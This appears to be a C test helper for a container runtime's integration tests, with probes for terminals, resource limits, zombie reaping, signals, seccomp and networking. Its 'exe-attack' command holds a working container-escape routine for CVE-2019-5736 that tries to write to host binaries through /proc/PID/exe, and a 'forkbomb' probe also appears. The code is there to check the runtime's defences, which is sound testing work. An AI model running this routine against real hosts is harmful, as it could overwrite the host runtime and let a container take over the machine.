// A tiny static program the integration tests copy into the container's root, to check the
// container from the inside where busybox cannot assert exactly (crun's tests/init.c idea).
// Usage: payload COMMAND [ARG...]; prints one result and exits 0 unless the command says other.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

static volatile sig_atomic_t got_signal;
static void on_signal(int sig) { got_signal = sig; }

// Counts processes in state Z visible in /proc.
static int count_zombies(void) {
    DIR *d = opendir("/proc");
    if (!d) return -1;
    int zombies = 0;
    struct dirent *e;
    while ((e = readdir(d))) {
        if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
        char path[300], buf[512];
        snprintf(path, sizeof path, "/proc/%s/stat", e->d_name);
        FILE *f = fopen(path, "r");
        if (!f) continue;
        if (fgets(buf, sizeof buf, f)) {
            char *p = strrchr(buf, ')');
            if (p && p[1] == ' ' && p[2] == 'Z') zombies++;
        }
        fclose(f);
    }
    closedir(d);
    return zombies;
}

// CVE-2019-5736 from inside, for at most `seconds` or until the file `stop` exists: takes an
// O_PATH fd of /proc/PID/exe of every other process that appears and whose program is not a file
// of the container's own, and keeps trying to reopen it for writing and append one byte (ETXTBSY
// lasts only as long as the program runs). Prints "SEEN TARGET" for each program taken and
// "WROTE TARGET" for each it could append to, then "DONE".
static int exe_attack(int seconds, const char *stop) {
    enum { most = 256 };
    int fds[most], written[most], count = 0;
    char seen_pid[32768] = { 0 };
    double deadline = now() + seconds;
    while (now() < deadline && access(stop, F_OK) != 0) {
        DIR *proc = opendir("/proc");
        struct dirent *e;
        while (proc && (e = readdir(proc)) && count < most) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == getpid() || pid >= (int)sizeof seen_pid || seen_pid[pid]) continue;
            char link[64], target[4096];
            snprintf(link, sizeof link, "/proc/%d/exe", pid);
            // Refused (a process still more privileged than this one, or not dumpable): asked
            // again at the next look, since what it runs may change.
            int fd = open(link, O_PATH | O_CLOEXEC);
            ssize_t n = fd >= 0 ? readlink(link, target, sizeof target - 1) : -1;
            if (n <= 0) { if (fd >= 0) close(fd); continue; }
            target[n] = 0;
            struct stat mine, theirs;
            if (fstat(fd, &theirs) == 0 && stat(target, &mine) == 0 && mine.st_dev == theirs.st_dev
                && mine.st_ino == theirs.st_ino) { close(fd); continue; }
            seen_pid[pid] = 1;
            printf("SEEN %s\n", target);
            fds[count] = fd;
            written[count++] = 0;
        }
        if (proc) closedir(proc);
        for (int i = 0; i < count; i++) {
            if (written[i]) continue;
            char path[64];
            snprintf(path, sizeof path, "/proc/self/fd/%d", fds[i]);
            int w = open(path, O_WRONLY | O_CLOEXEC);
            if (w < 0) continue;
            struct stat st;
            if (fstat(w, &st) == 0 && pwrite(w, "X", 1, st.st_size) == 1) {
                char target[4096];
                ssize_t n = readlink(path, target, sizeof target - 1);
                target[n > 0 ? n : 0] = 0;
                printf("WROTE %s\n", target);
                written[i] = 1;
            }
            close(w);
        }
        usleep(500);
    }
    printf("DONE\n");
    return 0;
}

// A server for the network tests: tells each tcp client or udp sender the address it came
// from ("peer=IP"), so a test sees what reached the container.
static int serve(const char *proto, int port) {
    int udp = !strcmp(proto, "udp");
    int fd = socket(AF_INET, udp ? SOCK_DGRAM : SOCK_STREAM, 0);
    int one = 1;
    setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    if (bind(fd, (struct sockaddr *)&a, sizeof a) < 0 || (!udp && listen(fd, 64) < 0)) { perror("serve"); return 1; }
    printf("listening %s %d\n", proto, port);
    for (;;) {
        struct sockaddr_in peer;
        socklen_t len = sizeof peer;
        char reply[128], got[64] = "";
        if (udp) {
            ssize_t n = recvfrom(fd, got, sizeof got - 1, 0, (struct sockaddr *)&peer, &len);
            if (n < 0) continue;
            got[n] = 0;
            int m = snprintf(reply, sizeof reply, "peer=%s got=%s\n", inet_ntoa(peer.sin_addr), got);
            sendto(fd, reply, (size_t)m, 0, (struct sockaddr *)&peer, len);
        } else {
            int c = accept(fd, (struct sockaddr *)&peer, &len);
            if (c < 0) continue;
            int m = snprintf(reply, sizeof reply, "peer=%s\n", inet_ntoa(peer.sin_addr));
            if (write(c, reply, (size_t)m) < 0) perror("write");
            close(c);
        }
    }
}

// The client: prints the server's answer, or why there was none (within 3 seconds).
static int ask(const char *proto, const char *ip, int port) {
    int udp = !strcmp(proto, "udp");
    int fd = socket(AF_INET, udp ? SOCK_DGRAM : SOCK_STREAM, 0);
    struct timeval limit = {.tv_sec = 3};
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof limit);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    inet_pton(AF_INET, ip, &a.sin_addr);
    if (connect(fd, (struct sockaddr *)&a, sizeof a) < 0) { printf("failed: %s\n", strerror(errno)); return 1; }
    if (udp && send(fd, "ping", 4, 0) < 0) { printf("failed: %s\n", strerror(errno)); return 1; }
    char buffer[256];
    ssize_t n = read(fd, buffer, sizeof buffer - 1);
    if (n <= 0) { printf("failed: %s\n", n < 0 ? strerror(errno) : "closed"); return 1; }
    buffer[n] = 0;
    printf("%s", buffer);
    return 0;
}

int main(int argc, char **argv) {
    if (argc < 2) { fprintf(stderr, "usage: payload COMMAND\n"); return 2; }
    const char *cmd = argv[1];
    setvbuf(stdout, NULL, _IONBF, 0);

    if (!strcmp(cmd, "pid")) { printf("%d\n", getpid()); return 0; }
    if (!strcmp(cmd, "isatty")) { printf("%d %d %d\n", isatty(0), isatty(1), isatty(2)); return 0; }
    if (!strcmp(cmd, "ctty")) {
        // A controlling terminal: /dev/tty opens, and we lead the foreground process group.
        int fd = open("/dev/tty", O_RDWR);
        printf("tty=%s fg=%d\n", fd >= 0 ? "yes" : strerror(errno), tcgetpgrp(0) == getpgrp());
        return 0;
    }
    if (!strcmp(cmd, "fds")) {
        DIR *d = opendir("/proc/self/fd");
        int self = dirfd(d);
        struct dirent *e;
        while ((e = readdir(d))) {
            if (e->d_name[0] == '.' || atoi(e->d_name) == self) continue;
            printf("%s ", e->d_name);
        }
        printf("\n");
        return 0;
    }
    if (!strcmp(cmd, "memhog") && argc > 2) {
        // Touches N MiB page by page; an OOM kill ends it before "done".
        size_t mib = strtoul(argv[2], NULL, 10);
        for (size_t i = 0; i < mib; i++) {
            char *p = malloc(1 << 20);
            if (!p) { printf("malloc failed at %zu\n", i); return 1; }
            memset(p, 1, 1 << 20);
        }
        printf("done %zu\n", mib);
        // `memhog N hold`: keeps the memory until killed (for `berth stats`).
        if (argc > 3 && !strcmp(argv[3], "hold")) {
            fflush(stdout);
            for (;;) pause();
        }
        return 0;
    }
    if (!strcmp(cmd, "forkbomb") && argc > 2) {
        // Forks up to N sleeping children and prints how many forks succeeded.
        int want = atoi(argv[2]), made = 0;
        for (int i = 0; i < want; i++) {
            pid_t p = fork();
            if (p == 0) { pause(); _exit(0); }
            if (p < 0) break;
            made++;
        }
        printf("forked %d\n", made);
        kill(0, SIGKILL);
        return 0;
    }
    if (!strcmp(cmd, "spin") && argc > 2) {
        // Busy-loops for N seconds of wall time; prints the CPU share it got, in percent.
        double seconds = atof(argv[2]), start = now();
        volatile unsigned long x = 0;
        while (now() - start < seconds) x++;
        struct rusage ru;
        getrusage(RUSAGE_SELF, &ru);
        double cpu = ru.ru_utime.tv_sec + ru.ru_utime.tv_usec / 1e6 + ru.ru_stime.tv_sec + ru.ru_stime.tv_usec / 1e6;
        printf("cpu %.0f\n", 100.0 * cpu / (now() - start));
        return 0;
    }
    if (!strcmp(cmd, "orphans") && argc > 2) {
        // Makes N orphans (double fork) that exit shortly and are reparented to pid 1, waits,
        // then counts zombies: an init reaps them, a plain pid 1 that never waits does not.
        int n = atoi(argv[2]);
        for (int i = 0; i < n; i++) {
            pid_t p = fork();
            if (p == 0) {
                if (fork() == 0) { usleep(100000); _exit(0); }
                _exit(0);
            }
            waitpid(p, NULL, 0);
        }
        usleep(600000);
        printf("zombies %d\n", count_zombies());
        return 0;
    }
    if (!strcmp(cmd, "trap")) {
        // Waits for one of the forwarded signals and exits with its number.
        int sigs[] = { SIGINT, SIGTERM, SIGHUP, SIGQUIT, SIGUSR1, SIGUSR2 };
        for (unsigned i = 0; i < sizeof sigs / sizeof *sigs; i++) signal(sigs[i], on_signal);
        printf("ready\n");
        while (!got_signal) pause();
        printf("got %d\n", (int)got_signal);
        return got_signal;
    }
    if (!strcmp(cmd, "sleep") && argc > 2) { sleep(atoi(argv[2])); return 0; }
    if (!strcmp(cmd, "denied")) {
        // Calls the default seccomp profile and dropped capabilities must refuse.
        printf("unshare=%s ", unshare(CLONE_NEWNS) == 0 ? "ok" : strerror(errno));
        printf("mount=%s ", mount("none", "/tmp", "tmpfs", 0, NULL) == 0 ? "ok" : strerror(errno));
        printf("keyctl=%s ", syscall(SYS_keyctl, 0, 0, 0, 0, 0) >= 0 || errno != EPERM ? "ok" : strerror(errno));
        printf("nnp=%d\n", prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0));
        return 0;
    }
    if (!strcmp(cmd, "syscalls")) {
        // The calls the default seccomp profile refuses, each as NAME=ERRNO-NAME (or =ok), made
        // raw so that no C library fallback hides the answer.
        struct { const char *name; long nr; long a0, a1; } calls[] = {
            { "io_uring_setup", SYS_io_uring_setup, 1, 0 }, { "userfaultfd", SYS_userfaultfd, 1 /* UFFD_USER_MODE_ONLY: no CAP_SYS_PTRACE needed */, 0 },
            { "keyctl", SYS_keyctl, 0, 0 }, { "bpf", SYS_bpf, -1, 0 },
            { "perf_event_open", SYS_perf_event_open, 0, 0 }, { "clone3", SYS_clone3, 0, 0 },
        };
        for (unsigned i = 0; i < sizeof calls / sizeof *calls; i++) {
            long rc = syscall(calls[i].nr, calls[i].a0, calls[i].a1, 0, 0, 0);
            printf("%s%s=%s", i ? " " : "", calls[i].name, rc >= 0 ? "ok" : strerrorname_np(errno));
        }
        printf("\n");
        return 0;
    }
    if (!strcmp(cmd, "rlimit")) {
        struct rlimit rl;
        getrlimit(RLIMIT_NOFILE, &rl);
        printf("nofile %llu %llu\n", (unsigned long long)rl.rlim_cur, (unsigned long long)rl.rlim_max);
        return 0;
    }
    if (!strcmp(cmd, "exit") && argc > 2) return atoi(argv[2]);
    if (!strcmp(cmd, "serve") && argc > 3) return serve(argv[2], atoi(argv[3]));
    if (!strcmp(cmd, "ask") && argc > 4) return ask(argv[2], argv[3], atoi(argv[4]));
    if (!strcmp(cmd, "exe-attack") && argc > 3) return exe_attack(atoi(argv[2]), argv[3]);
    fprintf(stderr, "payload: unknown command %s\n", cmd);
    return 2;
}
